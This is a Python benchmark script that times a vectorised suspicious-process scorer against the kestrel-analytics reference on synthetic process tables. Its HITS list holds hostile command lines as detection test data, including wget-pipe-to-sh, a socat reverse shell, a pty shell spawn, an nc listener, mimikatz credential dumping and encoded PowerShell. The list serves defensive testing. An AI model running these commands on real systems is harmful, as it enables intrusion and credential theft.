"""Benchmark: huntline's vectorised susp_scoring against the kestrel-analytics reference.

::

    SUSP_SCORING_REF=/tmp/refscore SUSP_SCORING_REF_PYTHON=/tmp/refscore/venv/bin/python \\
        python bench/susp_scoring.py               # 10k/100k/1M narrow and wide (~10 min)
    python bench/susp_scoring.py --reference /tmp/refscore \\
        --reference-python /tmp/refscore/venv/bin/python --sizes 1000 --wide-sizes 1000

The reference (``analytics.py``, ``rule_engine.py``, ``rules.json`` of kestrel-analytics
``suspiciousscoring``) is never part of this repository: ``--reference`` names the folder that
holds it, and ``--reference-python`` an interpreter with pandas<3, pyarrow and business-rules
(the reference crashes on pandas 3). Set it up once, outside the repository (any checkout of
github.com/opencybersecurityalliance/kestrel-analytics works; the same folder serves
``analytics_images/susp_scoring/tests/make_golden.py``)::

    python3 -m venv /tmp/refscore/venv
    /tmp/refscore/venv/bin/pip install 'pandas<3' pyarrow business-rules
    cp KESTREL_ANALYTICS/analytics/suspiciousscoring/{analytics.py,rule_engine.py,rules.json} \
        /tmp/refscore/

For each size and shape a process table in Kestrel analytics form is generated and written as
snappy parquet (as Kestrel writes ``/data/input/0.parquet.gz``): narrow (the usual process
columns) or wide (``--wide-columns`` extra columns of mixed types). ``--match-fraction`` of
the rows hit a Sigma pattern or a rule; ``x_guid`` and ``x_opened_connection_count`` are
always there, so the network step runs too.

The reference scores rows one by one at a constant cost per row (about 2,000 rows/s narrow,
100 wide), so on tables larger than ``--reference-rows`` (``--wide-reference-rows`` for wide
ones) it runs on the first that many rows only: its rows/s come from those. huntline's rows/s
come from the whole table; for the comparison huntline also scores that prefix (untimed),
since the network outlier step depends on the whole table's statistics. ``ref rows`` in the
table says how many rows the reference scored. Without the cap, 1M wide rows would take the
reference about three hours.

Each side runs in its own subprocess (huntline under this interpreter, the reference under
``--reference-python``), reads the table (untimed), scores a small warm-up slice (untimed),
then times only the scoring call. Peak RSS is that subprocess's ``VmHWM``, imports and the
input frame included; ``rss before`` is its ``VmRSS`` just before the timed calls.

Scores are compared row by row. Two documented differences are accounted for as in
``analytics_images/susp_scoring/tests/make_golden.py``: the reference gets a
``network_susp_score`` column seeded with 0 (it adds to a column it never creates), and the
reference's missing comma (``make_golden._fixed_patterns``): the reference subprocess also
counts, per row, the fixed patterns' hits minus the joined pattern's hits (stdlib ``fnmatch``,
the reference's own glob semantics), and ``identical`` means huntline's score equals the
reference's plus that count on every row. ``comma rows`` is how many rows that count touches;
``other diffs`` must be 0. Results print as a table and go to ``bench/results/*.json``.
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
IMAGE = HERE.parent / "analytics_images" / "susp_scoring"
WARMUP_ROWS = 200

# Rows that hit a Sigma pattern or a rule: (command_line, binary, parent binary, directory).
HITS: list[tuple[str | None, str, str, str]] = [
    ("wget -q - https://e.com/x | sh", "wget", "bash", "/usr/bin"),
    ("python -m SimpleHTTPServer", "python", "bash", "/usr/bin"),
    ("python3 -m http.server", "python3", "bash", "/usr/bin"),  # comma fix
    ("python -c 'import pty; pty.spawn(\"/bin/sh\")'", "python", "nc", "/usr/bin"),  # comma fix
    ("socat exec:'bash -li',pty,stderr tcp:10.0.0.9:80", "socat", "bash", "/usr/bin"),
    ("cd /tmp || cd /var/run || cd /mnt; wget x", "sh", "cron", "/bin"),
    ("cat x | base64 -d > y", "sh", "bash", "/bin"),
    ("chmod u+s /tmp/x", "chmod", "bash", "/bin"),
    ("nc -l -p 4444", "nc", "bash", "/bin"),
    ("cp /bin/sh /tmp/s", "cp", "bash", "/bin"),
    ("ls;chmod +x /tmp/a", "sh", "bash", "/bin"),
    ("curl https://tweetdeck.example", "curl", "bash", "/usr/bin"),
    ("mimikatz.exe sekurlsa::logonpasswords", "mimikatz.exe", "cmd.exe", "C:\\Tools"),
    ("net use \\\\fs01\\c$", "net.exe", "cmd.exe", "C:\\Windows\\System32"),
    ("whoami /all", "whoami.exe", "cmd.exe", "C:\\Windows\\System32"),
    ("net localgroup administrators", "net.exe", "cmd.exe", "C:\\Windows\\System32"),
    ("sethc.exe", "sethc.exe", "winlogon.exe", "C:\\Windows\\System32"),
    ("cmd.exe", "cmd.exe", "osk.exe", "C:\\Windows\\System32"),
    ("powershell -enc SQBFAFgA", "powershell.exe", "explorer.exe", "C:\\Windows\\System32"),
    ("powershell -Version 2 -c x", "powershell.exe", "explorer.exe", "C:\\Windows\\System32"),
    ("a.exe", "a.exe", "explorer.exe", "C:\\Users\\bob\\AppData\\Local\\Temp"),
    ("b.exe", "b.exe", "explorer.exe", "C:\\Windows\\TEMP"),
    ("cmd.exe /c calc", "cmd.exe", "WINWORD.EXE", "C:\\Windows\\System32"),
    ("powershell -c iex", "powershell.exe", "EXCEL.EXE", "C:\\Windows\\System32"),
    ("sh -c id", "sh", "node", "/bin"),
    (None, "sh", "node", "/bin"),
]
# Rows that hit nothing; "{n}" varies the text, so the strings are mostly distinct.
BENIGN: list[tuple[str, str, str, str]] = [
    ("C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s {n}", "svchost.exe", "services.exe",
     "C:\\Windows\\System32"),
    ("\"C:\\Program Files\\Google\\Chrome\\chrome.exe\" --type=renderer --id={n}", "chrome.exe",
     "chrome.exe", "C:\\Program Files\\Google\\Chrome"),
    ("/usr/bin/python3 /opt/app/worker.py --port {n}", "python3", "systemd", "/usr/bin"),
    ("ls -la /home/user{n}", "ls", "bash", "/bin"),
    ("/usr/sbin/sshd -D -R -p {n}", "sshd", "sshd", "/usr/sbin"),
    ("node /srv/app/server.js --worker {n}", "node", "node", "/usr/bin"),
    ("explorer.exe /e,C:\\Users\\u{n}", "explorer.exe", "userinit.exe", "C:\\Windows"),
]  # fmt: skip


def peak_rss_mb(field: str = "VmHWM") -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def generate(path: Path, rows: int, extra: int, match_fraction: float, seed: int) -> None:
    """A process table in Kestrel analytics form, written as snappy parquet by pyarrow."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    rng = np.random.default_rng(seed)
    hit = rng.random(rows) < match_fraction
    pick = np.where(hit, rng.integers(0, len(HITS), rows), rng.integers(0, len(BENIGN), rows))
    hits = hit.tolist()
    shapes = [HITS[p] if h else BENIGN[p] for h, p in zip(hits, pick.tolist(), strict=True)]
    numbers = rng.integers(1000, 65000, rows).tolist()
    # every 50th benign row has a null command line (as processes without one read back)
    command = [
        None if (r % 50 == 7 and not hits[r]) or s[0] is None else s[0].replace("{n}", str(n))
        for r, (s, n) in enumerate(zip(shapes, numbers, strict=True))
    ]
    guids = max(rows // 5, 1)
    counts = rng.poisson(1.0, rows)
    counts[rng.random(rows) < 0.002] = 400  # a few 3-sigma outliers
    stamp = [f"2026-11-{1 + i % 28:02d}T{i % 24:02d}:{i % 60:02d}:00.000Z" for i in range(rows)]
    columns: dict[str, Any] = {
        "id": [f"process--bench-{i:08d}" for i in range(rows)],
        "type": ["process"] * rows,
        "pid": rng.integers(2, 1 << 22, rows),
        "name": [s[1] for s in shapes],
        "command_line": command,
        "created": stamp,
        "x_guid": [f"{{{i % guids:08X}-0000-4000-8000-000000000000}}" for i in range(rows)],
        "x_opened_connection_count": counts,
        # a few null binaries: with parent "node" they hit the node rule in both
        "binary_ref.name": [None if r % 97 == 3 else s[1] for r, s in enumerate(shapes)],
        "binary_ref.parent_directory_ref.path": [s[3] for s in shapes],
        "parent_ref.pid": rng.integers(2, 1 << 22, rows),
        "parent_ref.name": [s[2] for s in shapes],
        "parent_ref.binary_ref.name": [s[2] for s in shapes],
        "creator_user_ref.user_id": [f"S-1-5-21-{n}" for n in numbers],
        "first_observed": stamp,
        "last_observed": stamp,
        "number_observed": np.ones(rows, dtype="int64"),
    }
    pool = [f"{rng.integers(0, 1 << 62):016x}{i:04d}" for i in range(512)]
    for k in range(extra):  # strings, ints, floats and booleans, some nulls
        kind = k % 4
        if kind == 0:
            values: Any = [pool[j] if j % 11 else None for j in rng.integers(0, 512, rows)]
        elif kind == 1:
            values = rng.integers(0, 1 << 31, rows)
        elif kind == 2:
            values = pa.array(rng.random(rows), mask=rng.random(rows) < 0.1)
        else:
            values = rng.random(rows) < 0.5
        columns[f"x_wide_{k:03d}"] = values
    pq.write_table(pa.table(columns), path, compression="snappy")


def worker_huntline(source: Path, out: Path, repeat: int) -> dict[str, Any]:
    import importlib.util

    import pandas as pd

    spec = importlib.util.spec_from_file_location("susp_scoring_analytics", IMAGE / "analytics.py")
    assert spec and spec.loader
    scoring = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(scoring)
    frame = pd.read_parquet(source)
    scoring.analytics(frame.head(WARMUP_ROWS))
    rss_before, seconds = peak_rss_mb("VmRSS"), []
    for _ in range(repeat):
        start = time.perf_counter()
        result = scoring.analytics(frame)
        seconds.append(time.perf_counter() - start)
    pd.DataFrame(
        {
            "id": result["id"],
            "score": result["x_suspicious_score"].astype("float64"),
            "network": result["network_susp_score"].astype("float64"),
        }
    ).to_parquet(out, index=False)
    return {"rows": len(frame), "columns": frame.shape[1], "seconds": seconds,
            "rss_before_mb": rss_before, "peak_rss_mb": peak_rss_mb(),
            "pandas": pd.__version__}  # fmt: skip


def worker_reference(source: Path, out: Path, repeat: int, ref_dir: Path) -> dict[str, Any]:
    import fnmatch

    import pandas as pd

    sys.path.insert(0, str(ref_dir))
    sys.path.insert(0, str(IMAGE / "tests"))
    import analytics as ref  # type: ignore[import-not-found]
    from make_golden import _fixed_patterns  # type: ignore[import-not-found]

    frame = pd.read_parquet(source)
    frame["network_susp_score"] = 0  # the harness seed of make_golden (see module docstring)
    ref.analytics(frame.head(WARMUP_ROWS).copy())
    rss_before, seconds = peak_rss_mb("VmRSS"), []
    for _ in range(repeat):
        copy = frame.copy()  # the reference writes into its input
        start = time.perf_counter()
        result = ref.analytics(copy)
        seconds.append(time.perf_counter() - start)
    # The comma fix, in the reference's glob semantics: +1 per split pattern that hits,
    # -1 for the joined pattern (untimed, vectorised, not part of the reference's cost).
    raw = list(ref.PATTERNS)
    fixed = _fixed_patterns(raw)
    comma = pd.Series(0, index=frame.index, dtype="int64")
    command = frame["command_line"]
    for pattern, sign in [*((p, 1) for p in fixed if p not in raw),
                          *((p, -1) for p in raw if p not in fixed)]:  # fmt: skip
        comma += command.str.contains(fnmatch.translate(pattern), na=False).astype("int64") * sign
    pd.DataFrame(
        {
            "id": result["id"],
            "score": result["x_suspicious_score"].astype("float64"),
            "network": result["network_susp_score"].astype("float64"),
            "comma": comma,
        }
    ).to_parquet(out, index=False)
    return {"rows": len(frame), "columns": frame.shape[1] - 1, "seconds": seconds,
            "rss_before_mb": rss_before, "peak_rss_mb": peak_rss_mb(),
            "pandas": pd.__version__}  # fmt: skip


def in_subprocess(python: str, worker: str, source: Path, out: Path, extra: list[str]) -> Any:
    command = [python, __file__, "--worker", worker, "--input", str(source), "--output",
               str(out), *extra]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"{worker} worker failed ({done.returncode}):\n{done.stderr[-4000:]}")
    return json.loads(done.stdout.strip().splitlines()[-1])


def compare(ours: Path, theirs: Path) -> dict[str, Any]:
    import pandas as pd

    h, r = pd.read_parquet(ours), pd.read_parquet(theirs)
    same_ids = h["id"].tolist() == r["id"].tolist()
    raw_diff = h["score"] != r["score"]
    fixed_diff = h["score"] != r["score"] + r["comma"]
    return {
        "same_ids": same_ids,
        "identical": bool(same_ids and not fixed_diff.any()),
        "comma_rows": int((r["comma"] != 0).sum()),
        "raw_diff_rows": int(raw_diff.sum()),
        "other_diff_rows": int(fixed_diff.sum()),
        "network_identical": bool(h["network"].equals(r["network"])),
        "hit_rows": int((h["score"] > 0).sum()),
    }


def measure(args: argparse.Namespace, work: Path, shape: str, size: int) -> dict[str, Any]:
    extra = args.wide_columns if shape == "wide" else 0
    source = work / f"procs-{shape}-{size}.parquet"
    generate(source, size, extra, args.match_fraction, args.seed)
    ours, theirs = work / f"h-{shape}-{size}.parquet", work / f"r-{shape}-{size}.parquet"
    cap = args.wide_reference_rows if shape == "wide" else args.reference_rows
    ref_source = source
    if size > cap:  # the reference's cost per row is constant: time it on a prefix
        import pyarrow.parquet as pq

        ref_source = work / f"procs-{shape}-{size}-head{cap}.parquet"
        pq.write_table(pq.read_table(source).slice(0, cap), ref_source, compression="snappy")
    entry: dict[str, Any] = {"shape": shape, "size": size, "reference_rows": min(size, cap)}
    entry["huntline"] = in_subprocess(sys.executable, "huntline", source, ours,
                                      ["--repeat", str(args.repeat)])  # fmt: skip
    entry["reference"] = in_subprocess(args.reference_python, "reference", ref_source, theirs,
                                       ["--repeat", str(args.reference_repeat),
                                        "--reference", str(args.reference)])  # fmt: skip
    for side in ("huntline", "reference"):
        entry[side]["rows_per_s"] = entry[side]["rows"] / min(entry[side]["seconds"])
    entry["ratio"] = entry["huntline"]["rows_per_s"] / entry["reference"]["rows_per_s"]
    if ref_source != source:
        # The network outlier step depends on the whole table (per-guid sums, mean and
        # standard deviation), so the scores are compared on the prefix scored by both.
        ours = work / f"h-{shape}-{size}-head{cap}.parquet"
        in_subprocess(sys.executable, "huntline", ref_source, ours, ["--repeat", "1"])
    entry["check"] = compare(ours, theirs)
    _print_row(entry)
    return entry


HEADER = (
    f"{'shape':>6} {'rows':>8} {'cols':>5} {'huntline rows/s':>16} {'reference rows/s':>17} "
    f"{'ratio':>7} {'ref rows':>9} {'RSS h (MB)':>11} {'RSS ref (MB)':>13} {'identical':>9} "
    f"{'comma':>6} {'other':>6}"
)


def _print_row(e: dict[str, Any]) -> None:
    h, r, c = e["huntline"], e["reference"], e["check"]
    print(
        f"{e['shape']:>6} {e['size']:>8,} {h['columns']:>5} {h['rows_per_s']:>16,.0f} "
        f"{r['rows_per_s']:>17,.0f} {e['ratio']:>6,.0f}x {e['reference_rows']:>9,} "
        f"{h['peak_rss_mb']:>11,.1f} "
        f"{r['peak_rss_mb']:>13,.1f} {c['identical']!s:>9} {c['comma_rows']:>6} "
        f"{c['other_diff_rows']:>6}",
        flush=True,
    )


def _machine() -> dict[str, Any]:
    return {"cpus": os.cpu_count(), "platform": platform.platform(),
            "python": platform.python_version(), "load_avg": os.getloadavg()}  # fmt: skip


def _sizes(text: str) -> list[int]:
    return [int(s) for s in text.split(",") if s.strip()]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--reference", type=Path, default=os.environ.get("SUSP_SCORING_REF"))
    parser.add_argument("--reference-python", default=os.environ.get("SUSP_SCORING_REF_PYTHON"))
    parser.add_argument("--sizes", type=_sizes, default=[10000, 100000, 1000000])
    parser.add_argument("--wide-sizes", type=_sizes, default=[10000, 100000, 1000000])
    parser.add_argument(
        "--reference-rows",
        type=int,
        default=100000,
        help="the reference scores at most this many rows of a narrow table",
    )
    parser.add_argument(
        "--wide-reference-rows",
        type=int,
        default=3000,
        help="the same for wide tables (the reference does ~100 rows/s)",
    )
    parser.add_argument("--wide-columns", type=int, default=100)
    parser.add_argument("--match-fraction", type=float, default=0.1)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--repeat", type=int, default=5, help="huntline timed runs (best)")
    parser.add_argument("--reference-repeat", type=int, default=1)
    parser.add_argument("--worker", choices=["huntline", "reference"], help=argparse.SUPPRESS)
    parser.add_argument("--input", type=Path, help=argparse.SUPPRESS)
    parser.add_argument("--output", type=Path, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.worker == "huntline":
        print(json.dumps(worker_huntline(args.input, args.output, args.repeat)))
        return 0
    if args.worker == "reference":
        result = worker_reference(args.input, args.output, args.repeat, args.reference)
        print(json.dumps(result))
        return 0
    if args.reference is None or args.reference_python is None:
        parser.error("give --reference and --reference-python (or SUSP_SCORING_REF[_PYTHON])")
    args.reference = args.reference.resolve()
    if not (args.reference / "analytics.py").is_file():
        parser.error(f"{args.reference}/analytics.py not found (see this script's docstring)")
    results: dict[str, Any] = {"machine": _machine(), "args": {
        k: str(v) for k, v in vars(args).items() if k not in {"worker", "input", "output"}
    }, "runs": []}  # fmt: skip
    print(HEADER, flush=True)
    with tempfile.TemporaryDirectory(prefix="susp_scoring-") as tmp:
        for shape, sizes in (("narrow", args.sizes), ("wide", args.wide_sizes)):
            for size in sizes:
                results["runs"].append(measure(args, Path(tmp), shape, size))
    out = HERE / "results" / f"susp_scoring-{datetime.now(UTC):%Y%m%dT%H%M%SZ}.json"
    out.parent.mkdir(exist_ok=True)
    out.write_text(json.dumps(results, indent=2))
    print(f"results: {out}")
    return 0 if all(run["check"]["identical"] for run in results["runs"]) else 1


if __name__ == "__main__":
    sys.exit(main())
